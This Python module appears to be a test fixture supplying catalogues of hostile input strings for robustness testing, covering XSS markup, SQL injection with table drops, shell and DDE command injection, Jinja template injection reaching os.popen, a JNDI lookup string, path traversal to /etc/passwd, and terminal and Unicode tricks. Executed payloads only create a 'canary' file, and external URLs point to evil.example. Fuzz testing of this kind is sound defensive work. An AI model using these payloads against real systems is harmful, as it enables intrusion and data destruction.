"""Texts that strangers could write to do harm, by kind."""

from __future__ import annotations


def hostile_texts(canary: str = "canary") -> dict[str, tuple[str, ...]]:
    """Texts by kind. One that is executed makes a file called `canary` in the working directory,
    in HOME or in the folder for temporary files."""
    return {
        "markup": _markup(canary),
        "sql": _sql(canary),
        "terminal": _TERMINAL,
        "shell": _shell(canary),
        "spreadsheet": _spreadsheet(canary),
        "notebook": _notebook(canary),
        "path": _paths(canary),
        "template": _templates(canary),
        "character": _CHARACTERS,
        "long": ("x" * 5000, "漢" * 3000, "e" + "\u0301" * 5000, "a b " * 1000, "\u202e" * 2000),
    }


def _markup(canary: str) -> tuple[str, ...]:
    return (
        "<script>alert(1)</script>",
        "</script><script src=https://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "' onmouseover='alert(1)",
        '" style="background:url(https://evil.example/x.png)',
        "</title></style></textarea></code></td></table><iframe srcdoc='<p>owned'>",
        "<!--",
        "-->",
        "<![CDATA[",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "&lt;script&gt; &amp; &#60;b&#62; &quot;",
        "<a href=javascript:alert(1)>here</a>",
        "a\u2028<b>\u2029c",
        f"<?php system('touch {canary}') ?>",
    )


def _sql(canary: str) -> tuple[str, ...]:
    return (
        "'; drop table conversation_log; --",
        "'; drop table events; drop table sources; --",
        '"; delete from conversation_log; --',
        "x'); drop",
        "' or 1=1 --",
        "/* open",
        "*/ close",
        "$$; drop table conversation_log; $$",
        "$axnb$; drop table conversation_log; $axnb$",
        "E'\\'; drop table conversation_log; --",
        "back\\slash\\",
        f"\\! touch {canary}",
        f"a\n\\! touch {canary}\n",
        f".shell touch {canary}",
        f"a\n.shell touch {canary}\n.quit\n",
        f"a\n.output {canary}\n",
        "a\n\\copy conversation_log to stdout\n",
        f"'); copy (select 1) to '{canary}'; --",
        f"'; attach '{canary}' as owned; --",
        f"'; copy (select '') to program 'touch {canary}'; --",
        "{} {0} {:>99999} {name}",
        "$source ?1 :id @x",
    )


_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[1;1H",
    "\x1b[10A\x1b[2K",
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n\x1b[c",
    "\x1b]50;?\x07",
    "\x9b31m \x9d0;owned\x9c \x90x\x9c",
    "\x07\x08\x7f\x0e\x0f",
    "ok\rfailed",
    "a\nb\r\nc\td\x0b\x0ce",
    "abc\u202edcba\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u061ca\u200eb\u200fc",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "a\ufe0f\ufe00b\U000e0100c",
    "tag\U000e0001\U000e0041\U000e007f",
    "\u115f\u1160\u3164\uffa0\u180e\u034f",
    "\u0301begins with a mark",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f",
    "漢字テスト" * 12,
    "\U0001f600" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "‮gnp.exe",
)


def _shell(canary: str) -> tuple[str, ...]:
    return (
        f"$(touch {canary})",
        f"`touch {canary}`",
        f"; touch {canary}",
        f"a\ntouch {canary}\n",
        f"| touch {canary}",
        f"& touch {canary} &",
        f"&& touch $HOME/{canary}",
        f"' ; touch {canary} ; '",
        f'" ; touch {canary} ; "',
        f"> {canary}",
        f"<(touch {canary})",
        "${IFS}$PATH",
        "--json",
        "--reveal",
        "-c",
        "--",
        "* ? [a-z] ~ !! {a,b}",
        "a\\",
        "%PATH% ^ %0|%0",
    )


def _spreadsheet(canary: str) -> tuple[str, ...]:
    return (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        f"=cmd|'/C touch {canary}'!A0",
        f'=DDE("cmd";"/C touch {canary}";"x")',
        '=HYPERLINK("https://evil.example/","ok")',
        '=WEBSERVICE("https://evil.example/")',
        'a","=1+1',
        "a,=1+1\r\n=2+2",
        "\u200b=1+1",
        "\ufeff=1+1",
        "'=1+1",
    )


def _notebook(canary: str) -> tuple[str, ...]:
    return (
        "[x](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "```\n# fence",
        "| a | b |\n|---|---|",
        "<details><summary>",
        "$$\\href{javascript:alert(1)}{x}$$",
        f"\"\nopen('{canary}', 'w').close()\n\"",
        f"'\nopen('{canary}', 'w').close()\n'",
        f'"""\nopen(\'{canary}\', \'w\').close()\n"""',
        f"\\\"; open('{canary}', 'w').close() #",
        f"x'); open('{canary}', 'w'",
        "ends in a backslash \\",
        f"!touch {canary}",
        f"%system touch {canary}",
        f"a\n%%bash\ntouch {canary}",
        "None",
    )


def _paths(canary: str) -> tuple[str, ...]:
    return (
        f"../{canary}",
        f"../../../../../../../../tmp/{canary}",
        f"~/{canary}",
        f"a/../{canary}/",
        f"..\\{canary}",
        f"file:///tmp/{canary}",
        f"sqlite:///{canary}",
        "/etc/passwd",
        "/dev/stdout",
        "/proc/self/environ",
        "C:\\Windows\\win.ini",
        "\\\\evil.example\\share",
        "CON",
        "a\0b",
        ".",
        "..",
        "n" * 300,
    )


def _templates(canary: str) -> tuple[str, ...]:
    popen = "__init__.__globals__.os.popen"
    return (
        "{{7*7}}",
        "{% raw %}",
        "{% include '/etc/passwd' %}",
        "{# open",
        f"{{{{ cycler.{popen}('touch {canary}').read() }}}}",
        f"{{{{ self.{popen}('touch {canary}') }}}}",
        "{0.__class__.__mro__}",
        "{self.__init__.__globals__}",
        "{result}{source}{conversation_id!r:>9999}",
        "%s %n %x %(a)s %99999d",
        "${7*7} #{7*7} <%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "%{time} \\g<0> \\1 $1 $&",
    )


_CHARACTERS = (
    "nul \0 within",
    "\0",
    "half of a pair \ud800",
    "\udfff\ud800",
    "no characters \ufffe\uffff\U0010ffff",
    "replaced \ufffd",
    "private \ue000\U000f0000",
    "not assigned \u0378\U000e0fff",
    "two spellings \u00e9 e\u0301",
    "look alike p\u0430ypal \u0405",
    "spaces \u00a0\u2003\u3000\u205f",
    " leading and trailing ",
    "ﷺ",
)
